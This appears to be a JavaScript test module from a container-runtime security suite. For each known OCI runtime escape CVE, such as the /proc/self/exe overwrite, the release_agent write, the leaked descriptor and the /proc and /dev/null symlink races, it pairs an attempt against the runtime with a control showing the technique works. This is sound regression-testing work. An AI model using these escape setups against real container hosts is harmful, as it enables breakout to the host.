// The known holes of OCI runtimes, each as an attempt, and a control that shows that the attempt is real: the same against a way of doing things
// that does not defend itself. An attempt says whether it was held and how; nothing is taken for held because it failed to run.
import {
  copyFileSync,
  existsSync,
  mkdirSync,
  readFileSync,
  rmdirSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs';
import { join } from 'node:path';
import { eventually, shellWords } from '../conformance/subject.mjs';
import { aliases } from './aliases.mjs';
import {
  command,
  delegate,
  digest,
  fakeProc,
  forwarding,
  held,
  inForce,
  intrude,
  jsonLines,
  leaked,
  linkedProc,
  madeOutside,
  mapped,
  masked,
  mounted,
  open,
  outsideRace,
  overwritten,
  powerful,
  procPlace,
  procQuestions,
  race,
  reason,
  redirected,
  swapping,
  trueProc,
  typed,
  wait,
} from './tools.mjs';

const known = [
  {
    cve: 'CVE-2017-5226',
    title: 'keys typed into the terminal at which the runtime was called',
    control(world) {
      const done = command('script', '-qec', shellWords(world.intruder, 'type'), '/dev/null');
      return !typed(done.stdout).held && 'a program of the session types a key';
    },
    async attempt(subject, world) {
      const how = [];
      const look = (way, result) => {
        const outcome = typed(result.stdout);
        how.push(`${way} ${outcome.how}`);
        return outcome.held;
      };
      // Root of the host, without the capability that the kernel asks for; and with all of them in a user namespace.
      for (const [way, change] of Object.entries({ run: undefined, mapped }))
        if (!look(way, await subject.run([], intrude(world, ['type'], change), { terminal: true })))
          return open(how.at(-1));
      const { id } = await subject.started(['sleep:100000'], (_, { rootfs }) => {
        copyFileSync(world.intruder, join(rootfs, 'bin/intruder'));
      });
      if (!look('exec', await subject.call(['exec', id, '/bin/intruder', 'type'], { terminal: true })))
        return open(how.at(-1));
      return held(how.join(', '));
    },
  },
  {
    cve: 'CVE-2019-5736',
    title: "the runtime's program overwritten through /proc/PID/exe",
    async control(world) {
      const program = join(world.place, 'victim');
      copyFileSync(world.intruder, program);
      const before = digest(program);
      const root = new world.Root();
      try {
        const { id } = await root.subject.started([], intrude(world, ['overwrite', '30000'], powerful));
        const { pid } = await root.subject.state(id);
        await wait(200);
        for (let i = 0; i < 100; i++) {
          if (digest(program) !== before) break;
          command(program, 'victim', String(pid));
          await wait(100);
        }
        return digest(program) !== before && 'a program that entered the container was overwritten';
      } finally {
        await root.close();
      }
    },
    attempt: (subject, world) =>
      overwritten(subject, world, [['/bin/self']], (_, { rootfs }) => {
        writeFileSync(join(rootfs, 'bin/self'), '#!/proc/self/exe\n', { mode: 0o755 });
      }),
  },
  {
    cve: 'CVE-2019-16884',
    title: 'a volume on /proc takes what the runtime writes there',
    control(world) {
      const rootfs = join(world.place, 'c16884');
      const fake = join(world.place, 'c16884-fake');
      mkdirSync(join(rootfs, 'proc'), { recursive: true });
      const changed = fakeProc(fake);
      return mounted(['--bind', fake, join(rootfs, 'proc')], [join(rootfs, 'proc')], () => {
        writeFileSync(join(rootfs, 'proc/sys/net/ipv4/ip_forward'), '1');
        return changed().length === 1 && 'a write by path went to the volume';
      });
    },
    async attempt(subject) {
      let changed;
      const result = await subject.run(inForce, (config, { folder }) => {
        changed = fakeProc(join(folder, 'fake'));
        config.mounts[0] = {
          destination: '/proc',
          type: 'bind',
          source: join(folder, 'fake'),
          options: ['rbind'],
        };
        config.mounts.push(trueProc);
        forwarding(config);
      });
      return redirected(result, changed);
    },
  },
  {
    cve: 'CVE-2019-19921',
    title: '/proc of the rootfs is a link',
    control(world) {
      const rootfs = join(world.place, 'c19921');
      mkdirSync(join(rootfs, 'data/other'), { recursive: true });
      symlinkSync('data/other', join(rootfs, 'proc'));
      return mounted(
        ['-t', 'proc', 'proc', join(rootfs, 'proc')],
        [join(rootfs, 'data/other')],
        () => existsSync(join(rootfs, 'data/other/self')) && 'a mount by path followed the link',
      );
    },
    async attempt(subject) {
      const result = await subject.run(procQuestions, (config, { rootfs }) => {
        masked(config);
        mkdirSync(join(rootfs, 'data/other'));
        rmdirSync(join(rootfs, 'proc'));
        symlinkSync('data/other', join(rootfs, 'proc'));
      });
      return procPlace(result);
    },
  },
  {
    cve: 'CVE-2021-30465',
    title: 'a mount point exchanged for a link while mounts are made',
    control: async (world) =>
      (await madeOutside(world, 'c30465', (path) => mkdirSync(path, { recursive: true }))) &&
      'a folder made by path was made outside',
    attempt: (subject, world) =>
      outsideRace(subject, world, 'c30465', (config) => {
        config.mounts.push({ destination: '/data/a/made/deep', type: 'tmpfs', source: 'tmpfs' });
      }),
  },
  {
    cve: 'CVE-2022-0492',
    title: 'release_agent of cgroup version 1, from a namespace of the container',
    control(world) {
      const folder = join(world.place, 'c0492');
      mkdirSync(folder);
      const done = command(world.intruder, 'agent-control', folder);
      const [told] = jsonLines(done.stdout);
      return told?.done && 'root of the host sets one';
    },
    async attempt(subject, world) {
      const result = await subject.run([], intrude(world, ['release-agent']));
      const told = jsonLines(result.stdout).at(-1);
      if (!told) return open(`nothing was tried: ${result.stderr.trim()}`);
      return told.done ? open('it was set') : held(`${told.step}: ${told.errno}`);
    },
  },
  {
    cve: 'CVE-2023-25809',
    title: 'the cgroups of the host written to from a user namespace without a cgroup namespace',
    control() {
      const delegated = delegate('c25809');
      try {
        const done = command('setpriv', '--reuid=100000', '--clear-groups', 'mkdir', join(delegated, 'made'));
        return done.code === 0 && 'the user to whom the cgroup belongs writes to it';
      } finally {
        if (existsSync(join(delegated, 'made'))) rmdirSync(join(delegated, 'made'));
        rmdirSync(delegated);
      }
    },
    async attempt(subject) {
      const delegated = delegate('25809');
      const name = delegated.split('/').at(-1);
      try {
        const result = await subject.run(
          [`mkdir:/sys/fs/cgroup/${name}/made`, 'read:/proc/self/cgroup'],
          (config, { rootfs }) => {
            mkdirSync(join(rootfs, 'sys/fs/cgroup'), { recursive: true });
            config.linux.namespaces.push({ type: 'user' });
            config.linux.uidMappings = [{ containerID: 0, hostID: 100000, size: 1000 }];
            config.linux.gidMappings = [{ containerID: 0, hostID: 100000, size: 1000 }];
            config.mounts.push({
              destination: '/sys/fs/cgroup',
              type: 'cgroup',
              source: 'cgroup',
              options: ['nosuid', 'noexec', 'nodev', 'relatime', 'ro'],
            });
          },
        );
        if (existsSync(join(delegated, 'made'))) return open('a cgroup of the host was made');
        if (result.code !== 0) return held(reason(result));
        return held(`refused: ${result.answers.get(`mkdir:/sys/fs/cgroup/${name}/made`)?.errno}`);
      } finally {
        if (existsSync(join(delegated, 'made'))) rmdirSync(join(delegated, 'made'));
        rmdirSync(delegated);
      }
    },
  },
  {
    cve: 'CVE-2023-27561',
    title: '/proc exchanged for a link into a volume while the container is made',
    async control(world) {
      const rootfs = join(world.place, 'c27561');
      for (const name of ['proc', 'data/other']) mkdirSync(join(rootfs, name), { recursive: true });
      symlinkSync('data/other', join(rootfs, 'link'));
      const elsewhere = join(rootfs, 'data/other');
      return swapping(world, join(rootfs, 'proc'), join(rootfs, 'link'), async () => {
        for (let i = 0; i < 2000; i++) {
          command('mount', '-t', 'proc', 'proc', join(rootfs, 'proc'));
          const there = existsSync(join(elsewhere, 'self'));
          for (const point of [elsewhere, join(rootfs, 'proc'), join(rootfs, 'link')])
            command('umount', '-l', point);
          if (there) return 'a mount by path went to the volume';
        }
        return false;
      });
    },
    attempt: (subject, world) =>
      race('masked', async () => {
        let paths;
        const bundle = subject.bundle(procQuestions, (config, { folder, rootfs }) => {
          mkdirSync(join(folder, 'volume/other'), { recursive: true });
          config.mounts.unshift({
            destination: '/data',
            type: 'bind',
            source: join(folder, 'volume'),
            options: ['rbind'],
          });
          masked(config);
          symlinkSync('data/other', join(rootfs, 'link'));
          paths = [join(rootfs, 'proc'), join(rootfs, 'link')];
        });
        return swapping(world, ...paths, async () => procPlace(await subject.runBundle(bundle), true));
      }),
  },
  {
    cve: 'CVE-2023-28642',
    title: 'what confines the container written into a /proc that is a link',
    control(world) {
      const rootfs = join(world.place, 'c28642');
      const changed = fakeProc(join(rootfs, 'data/fake'));
      symlinkSync('data/fake', join(rootfs, 'proc'));
      writeFileSync(join(rootfs, 'proc/self/attr/exec'), 'exec profile');
      return changed().length === 1 && 'a write by path went to the folder';
    },
    attempt: (subject) => linkedProc(subject, 'tmp/fake'),
  },
  {
    cve: 'CVE-2024-21626',
    title: 'a working folder, or a program, by a descriptor that the runtime left open',
    control(world) {
      const rootfs = join(world.place, 'c21626');
      mkdirSync(join(rootfs, 'proc'), { recursive: true });
      const marker = join(world.place, 'c21626-marker');
      writeFileSync(marker, 'marker\n');
      // In a mount namespace of its own: what it mounts ends with it.
      const done = command('unshare', '--mount', world.intruder, 'leak', rootfs, marker);
      return jsonLines(done.stdout)[0]?.read === 'marker' && 'an open folder led out of a chroot';
    },
    attempt: (subject) => leaked(subject, (fd) => [`/proc/self/fd/${fd}`]),
  },
  {
    cve: 'CVE-2024-45310',
    title: 'files made on the host where a mount point is exchanged for a link',
    control: async (world) =>
      (await madeOutside(world, 'c45310', (path) => writeFileSync(path, ''))) &&
      'a file made by path was made outside',
    attempt: (subject, world) =>
      outsideRace(subject, world, 'c45310', (config, { folder }) => {
        writeFileSync(join(folder, 'source'), 'source\n');
        config.mounts.push({
          destination: '/data/a/file',
          type: 'bind',
          source: join(folder, 'source'),
          options: ['bind'],
        });
      }),
  },
  {
    cve: 'CVE-2025-31133',
    title: "the container's /dev/null is a link when paths are masked with it",
    control(world) {
      const rootfs = join(world.place, 'c31133');
      for (const name of ['dev', 'etc']) mkdirSync(join(rootfs, name), { recursive: true });
      writeFileSync(join(rootfs, 'etc/chosen'), 'chosen\n');
      writeFileSync(join(rootfs, 'etc/file'), 'secret\n');
      symlinkSync('../etc/chosen', join(rootfs, 'dev/null'));
      return mounted(
        ['--bind', join(rootfs, 'dev/null'), join(rootfs, 'etc/file')],
        [join(rootfs, 'etc/file')],
        () =>
          readFileSync(join(rootfs, 'etc/file'), 'utf8') === 'chosen\n' &&
          'a bind mount by path took the chosen file',
      );
    },
    attempt: (subject, world) =>
      race('masked', async () => {
        let paths;
        const bundle = subject.bundle(['read:/etc/file', 'write:/etc/chosen'], (config, { rootfs }) => {
          writeFileSync(join(rootfs, 'etc/chosen'), 'chosen\n');
          command('mknod', '-m', '666', join(rootfs, 'dev/null'), 'c', '1', '3');
          symlinkSync('../etc/chosen', join(rootfs, 'dev/link'));
          config.mounts = config.mounts.filter(({ destination }) => !destination.startsWith('/dev'));
          config.linux.maskedPaths = ['/etc/file'];
          paths = [join(rootfs, 'dev/null'), join(rootfs, 'dev/link')];
        });
        return swapping(world, ...paths, async () => {
          const result = await subject.runBundle(bundle);
          if (result.code !== 0) return held(reason(result));
          const { value, errno } = result.answers.get('read:/etc/file') ?? {};
          if (value) return open(`the masked file reads as ${JSON.stringify(value)}`);
          return held(value === '' ? 'masked' : (errno ?? 'did not answer'));
        });
      }),
  },
  {
    cve: 'CVE-2025-52565',
    title: '/dev/console is a link when the terminal is mounted on it',
    control(world) {
      const rootfs = join(world.place, 'c52565');
      for (const name of ['dev', 'etc']) mkdirSync(join(rootfs, name), { recursive: true });
      writeFileSync(join(rootfs, 'etc/chosen'), 'chosen\n');
      symlinkSync('../etc/chosen', join(rootfs, 'dev/console'));
      return mounted(
        ['--bind', '/dev/null', join(rootfs, 'dev/console')],
        [join(rootfs, 'etc/chosen')],
        () =>
          readFileSync(join(rootfs, 'etc/chosen'), 'utf8') === '' &&
          'a bind mount by path went to the chosen file',
      );
    },
    attempt: (subject) =>
      subject.withPeer('console', async (socket, text) => {
        const container = await subject.create(
          ['stat:/etc/chosen', 'read:/etc/chosen', 'exit:0'],
          (config, { rootfs, folder }) => {
            writeFileSync(join(rootfs, 'etc/chosen'), 'chosen\n');
            mkdirSync(join(folder, 'dev/pts'), { recursive: true });
            symlinkSync('../etc/chosen', join(folder, 'dev/console'));
            symlinkSync('pts/ptmx', join(folder, 'dev/ptmx'));
            for (const [name, minor] of Object.entries({ null: 3, zero: 5, full: 7, random: 8, urandom: 9 }))
              command('mknod', '-m', '666', join(folder, 'dev', name), 'c', '1', String(minor));
            command('mknod', '-m', '666', join(folder, 'dev/tty'), 'c', '5', '0');
            config.mounts = config.mounts.filter(({ destination }) => destination !== '/dev/shm');
            config.mounts[1] = {
              destination: '/dev',
              type: 'bind',
              source: join(folder, 'dev'),
              options: ['bind'],
            };
            config.process.terminal = true;
          },
          { flags: ['--console-socket', socket] },
        );
        if (container.code !== 0) return held(reason(container));
        await subject.must(['start', container.id]);
        await eventually(
          () => text().includes('"ask":"stat:/etc/chosen"'),
          'the container runs and says nothing',
        );
        const [, found] = /"ask":"stat:\/etc\/chosen",(?:[^}]*"value":"([^"]*)")?/.exec(text());
        return found?.startsWith('file ')
          ? held('the chosen file is a file')
          : open(`the chosen file is ${found}`);
      }),
  },
  {
    cve: 'CVE-2025-52881',
    title: 'what the runtime writes to /proc/sys redirected by a mount on it',
    control(world) {
      const root = join(world.place, 'c52881');
      mkdirSync(root);
      const changed = fakeProc(join(root, 'fake'));
      mkdirSync(join(root, 'proc'));
      try {
        command('mount', '-t', 'proc', 'proc', join(root, 'proc'));
        command('mount', '--bind', join(root, 'fake/sys'), join(root, 'proc/sys'));
        writeFileSync(join(root, 'proc/sys/net/ipv4/ip_forward'), '1');
        return changed().length === 1 && 'a write by path went to the mount';
      } finally {
        command('umount', '-l', join(root, 'proc/sys'));
        command('umount', '-l', join(root, 'proc'));
      }
    },
    async attempt(subject) {
      let changed;
      const ways = [
        ['/proc/sys', 'fake/sys'],
        ['/proc/sys/net', 'fake/sys/net'],
        ['/proc/sys/net/ipv4/ip_forward', 'fake/sys/net/ipv4/ip_forward'],
      ];
      const how = [];
      for (const [destination, source] of ways) {
        const result = await subject.run(inForce, (config, { folder }) => {
          changed = fakeProc(join(folder, 'fake'));
          config.mounts.push(trueProc, {
            destination,
            type: 'bind',
            source: join(folder, source),
            options: ['bind'],
          });
          forwarding(config);
        });
        const outcome = redirected(result, changed);
        if (!outcome.held) return { held: false, how: `${destination}: ${outcome.how}` };
        how.push(outcome.how.split(':')[0]);
      }
      return held(how.join(', '));
    },
  },
];

/** An alias has the control of the hole itself. */
export const holes = known.flatMap((hole) => [
  hole,
  ...aliases.filter(({ cve }) => cve === hole.cve).map((alias) => ({ ...alias, control: hole.control })),
]);
